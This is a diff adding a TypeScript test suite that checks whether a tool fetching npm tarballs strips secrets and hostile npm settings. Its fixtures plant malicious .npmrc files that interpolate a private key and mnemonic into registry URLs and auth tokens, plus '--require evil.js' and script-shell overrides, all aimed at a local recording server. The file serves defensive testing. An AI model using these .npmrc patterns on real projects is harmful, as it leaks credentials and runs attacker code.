@@ -1,0 +1,251 @@
+import { expect } from "chai";
+import { mkdir, readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { fetchTarball } from "../../../../src/foundation/arc/source/fetch-tarball.js";
+import {
+  hasProjectSettings,
+  npmEnvironment,
+} from "../../../../src/foundation/arc/source/npm-environment.js";
+import { openServer, type OpenServer } from "../../../open-server.js";
+import { rejection } from "../../../rejection.js";
+import { replaceNpm, useNpmEnvironment } from "../support/npm-environment.js";
+import { makeTarball, truffleFiles } from "../support/tarballs.js";
+
+const KEY = `0x${"1a2b3c4d".repeat(8)}`;
+const WORDS = "myth like bonus scare over problem client lizard pioneer submit female collect";
+const OTHER = "a-secret-of-another-program";
+
+describe("npmEnvironment", () => {
+  const environment = useNpmEnvironment();
+
+  const made = (more: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv =>
+    npmEnvironment({ ...process.env, ...more }, environment().projectRoot).env;
+
+  it("passes on what programs and the network need, and nothing else", () => {
+    const env = made({
+      DAO_MIGRATE_PRIVATE_KEY: KEY,
+      DAO_MIGRATE_MNEMONIC: WORDS,
+      AWS_SECRET_ACCESS_KEY: OTHER,
+      VOICE_PASSWORD: OTHER,
+      mainnet_private_key: KEY,
+      https_proxy: "http://proxy:3128",
+      NO_PROXY: "localhost",
+      NODE_EXTRA_CA_CERTS: "/ca.pem",
+      NPM_CONFIG_CAFILE: "/ca.pem",
+      npm_config_dry_run: "true",
+      npm_config_git: "/evil",
+      npm_config_script_shell: "/evil",
+      npm_config_node_options: "--require ./evil.js",
+      npm_lifecycle_script: "x",
+    });
+    expect(env).to.include({
+      PATH: process.env["PATH"],
+      https_proxy: "http://proxy:3128",
+      NO_PROXY: "localhost",
+      NODE_EXTRA_CA_CERTS: "/ca.pem",
+      NPM_CONFIG_CAFILE: "/ca.pem",
+      npm_config_userconfig: environment().settings,
+    });
+    const text = JSON.stringify(env);
+    for (const secret of [KEY, WORDS, OTHER, "evil", "dry_run", "lifecycle"]) {
+      expect(text).not.to.include(secret);
+    }
+  });
+
+  it("passes on the variables that the user's settings name, but none of ours", async () => {
+    await writeFile(
+      environment().settings,
+      "//host/:_authToken=${NPM_TOKEN}\nx=${MAYBE?}\ny=${DAO_MIGRATE_PRIVATE_KEY}\n",
+    );
+    const all = { NPM_TOKEN: "token-of-a-user", MAYBE: "1", DAO_MIGRATE_PRIVATE_KEY: KEY };
+    const { env, secrets } = npmEnvironment({ ...process.env, ...all }, environment().projectRoot);
+    expect(env).to.include({ NPM_TOKEN: "token-of-a-user", MAYBE: "1" });
+    expect(env).not.to.have.property("DAO_MIGRATE_PRIVATE_KEY");
+    expect(secrets).to.deep.equal(["token-of-a-user"]);
+  });
+
+  it("keeps Node options about the network", () => {
+    const options =
+      "--use-system-ca --require ./evil.js --import=./evil.js --dns-result-order=ipv4first";
+    expect(made({ NODE_OPTIONS: options })["NODE_OPTIONS"]).to.equal(
+      "--use-system-ca --dns-result-order=ipv4first",
+    );
+    expect(made({ NODE_OPTIONS: "--require ./evil.js" })).not.to.have.property("NODE_OPTIONS");
+  });
+
+  it("ignores a project's settings that a running npm has copied into variables", async () => {
+    const { projectRoot } = environment();
+    const byNpm = {
+      npm_execpath: "/npm-cli.js",
+      npm_config_local_prefix: projectRoot,
+      npm_config_registry: `http://host/${KEY}/`,
+      NPM_CONFIG_PROXY: "http://proxy",
+    };
+    expect(made(byNpm)).to.include({ npm_config_registry: `http://host/${KEY}/` });
+
+    await writeFile(
+      join(projectRoot, ".npmrc"),
+      "registry=http://host/${DAO_MIGRATE_PRIVATE_KEY}/",
+    );
+    const evil = join(projectRoot, "evil");
+    await writeFile(evil, "x=${AWS_SECRET}");
+    const env = made({ ...byNpm, npm_config_userconfig: evil, AWS_SECRET: OTHER });
+    expect(env).to.include({ NPM_CONFIG_PROXY: "http://proxy" });
+    for (const name of ["npm_config_registry", "npm_config_userconfig", "AWS_SECRET"]) {
+      expect(env).not.to.have.property(name);
+    }
+  });
+
+  it("distinguishes a project's settings from the user's own, in the folder and above it", async () => {
+    const { folder, projectRoot } = environment();
+    const member = join(projectRoot, "packages", "member");
+    expect(hasProjectSettings({}, member, folder)).to.be.false;
+    await writeFile(join(folder, ".npmrc"), "");
+    expect(hasProjectSettings({}, member, folder)).to.be.false;
+    await writeFile(join(projectRoot, ".npmrc"), "");
+    expect(hasProjectSettings({}, member, folder)).to.be.true;
+  });
+});
+
+// Runs the real npm against a server that records every request.
+describe("a project with hostile npm settings", () => {
+  const environment = useNpmEnvironment();
+  const spec = "@daostack/arc@0.0.1-rc.40";
+  const received: string[] = [];
+  let server: OpenServer;
+  let address: string;
+  let tarball: Buffer;
+
+  before(async () => {
+    tarball = await makeTarball("@daostack/arc", "0.0.1-rc.40", truffleFiles(["Avatar"]));
+    server = await openServer((request, response) => {
+      received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
+      response.writeHead(500).end();
+    });
+    server.server.on("connect", (request, socket) => {
+      received.push(`CONNECT ${request.url}`);
+      socket.destroy();
+    });
+    address = new URL(server.url).host;
+  });
+  after(() => server.close());
+  beforeEach(() => {
+    received.length = 0;
+    process.env["DAO_MIGRATE_PRIVATE_KEY"] = KEY;
+    process.env["DAO_MIGRATE_MNEMONIC"] = WORDS;
+    process.env["ANOTHER_SECRET"] = OTHER;
+  });
+
+  /** Returns every setting that could make npm contact a server or run a program. */
+  function hostile(evil: string): string {
+    const at = `http://${address}/`;
+    return `@daostack:registry=${at}\${DAO_MIGRATE_PRIVATE_KEY}/\${DAO_MIGRATE_MNEMONIC}/
+registry=${at}\${ANOTHER_SECRET}/
+proxy=${at}
+https-proxy=${at}
+noproxy=
+user-agent=\${DAO_MIGRATE_PRIVATE_KEY}
+//${address}/:_authToken=\${DAO_MIGRATE_PRIVATE_KEY}
+cache=${join(evil, "cache")}
+userconfig=${join(evil, "npmrc")}
+node-options=--require=${join(evil, "evil.js")}
+script-shell=${join(evil, "evil.sh")}
+`;
+  }
+
+  async function plant(folder: string): Promise<string> {
+    const evil = join(folder, "evil");
+    const trace = join(evil, "ran");
+    await mkdir(evil, { recursive: true });
+    await writeFile(join(folder, ".npmrc"), hostile(evil));
+    await writeFile(join(evil, "npmrc"), hostile(evil));
+    await writeFile(
+      join(evil, "evil.js"),
+      `require("node:fs").writeFileSync(${JSON.stringify(trace)}, "")`,
+    );
+    await writeFile(join(evil, "evil.sh"), `#!/bin/sh\ntouch '${trace}'\n`, { mode: 0o755 });
+    return trace;
+  }
+
+  async function expectSafe(projectRoot: string, trace: string): Promise<void> {
+    const { cacheDir, registry } = environment();
+    const pin = registry.publish(spec, tarball);
+    const fetched = await fetchTarball(spec, pin, { projectRoot, cacheDir });
+    expect(fetched.equals(tarball)).to.be.true;
+    expect(registry.sentTarballs).to.deep.equal([spec]);
+
+    registry.packages.clear();
+    process.env["npm_config_cache"] = join(environment().folder, "another-npm-cache");
+    const error = await rejection(fetchTarball(spec, pin, { projectRoot, cacheDir }));
+    expect(error.message).to.include("project's .npmrc is ignored").and.include("404");
+    for (const secret of [KEY, KEY.slice(2), WORDS, encodeURIComponent(WORDS), OTHER]) {
+      expect(error.message).not.to.include(secret);
+      expect(registry.requests.join(" ")).not.to.include(secret);
+    }
+    expect(received).to.deep.equal([]);
+    expect((await rejection(readFile(trace))).message).to.include("ENOENT");
+  }
+
+  it("sends nothing and runs nothing", async () => {
+    const { projectRoot } = environment();
+    await expectSafe(projectRoot, await plant(projectRoot));
+  });
+
+  it("also does neither if it is a folder above the project, or a workspace's root", async () => {
+    const { folder, projectRoot, cacheDir } = environment();
+    await writeFile(
+      join(folder, "package.json"),
+      JSON.stringify({ name: "root", private: true, workspaces: ["*", "cache/*", "a project/*"] }),
+    );
+    await mkdir(cacheDir);
+    await plant(cacheDir);
+    await expectSafe(projectRoot, await plant(folder));
+  });
+
+  it("also does neither if npm started this process", async () => {
+    const { projectRoot, settings } = environment();
+    const trace = await plant(projectRoot);
+    for (const [name, value] of Object.entries({
+      npm_execpath: process.env["npm_execpath"] ?? "/no/npm-cli.js",
+      npm_config_local_prefix: projectRoot,
+      npm_config_registry: `http://${address}/${KEY}/`,
+      npm_config_https_proxy: `http://${address}/`,
+      npm_config_proxy: `http://${address}/`,
+      npm_config_userconfig: join(projectRoot, "evil", "npmrc"),
+      npm_config_node_options: `--require=${join(projectRoot, "evil", "evil.js")}`,
+      NPM_CONFIG_USERCONFIG: settings,
+    })) {
+      process.env[name] = value;
+    }
+    await expectSafe(projectRoot, trace);
+  });
+
+  it("is not even npm's working folder", async () => {
+    const { folder, projectRoot, cacheDir } = environment();
+    const record = join(folder, "seen");
+    await replaceNpm(
+      folder,
+      `const fs = require("node:fs");
+       const seen = { cwd: process.cwd(), files: fs.readdirSync("."), env: process.env };
+       fs.writeFileSync(${JSON.stringify(record)}, JSON.stringify(seen));
+       console.error("npm error code E500\\nnpm error \\u001b[8m" + process.env.NPM_TOKEN + " ${KEY}");
+       process.exit(1);`,
+    );
+    await writeFile(environment().settings, "//host/:_authToken=${NPM_TOKEN}");
+    process.env["NPM_TOKEN"] = "token-of-a-user";
+    const error = await rejection(fetchTarball(spec, "sha512-", { projectRoot, cacheDir }));
+    expect(error.message).to.include("npm said: code E500 \\x1b[8m*** ***");
+    const seen = JSON.parse(await readFile(record, "utf8")) as {
+      cwd: string;
+      files: string[];
+      env: Record<string, string>;
+    };
+    expect(seen.cwd.startsWith(join(cacheDir, "fetch-"))).to.be.true;
+    expect(seen.files).to.deep.equal(["package.json"]);
+    expect(seen.env).not.to.have.any.keys(
+      "DAO_MIGRATE_PRIVATE_KEY",
+      "DAO_MIGRATE_MNEMONIC",
+      "ANOTHER_SECRET",
+    );
+  });
+});
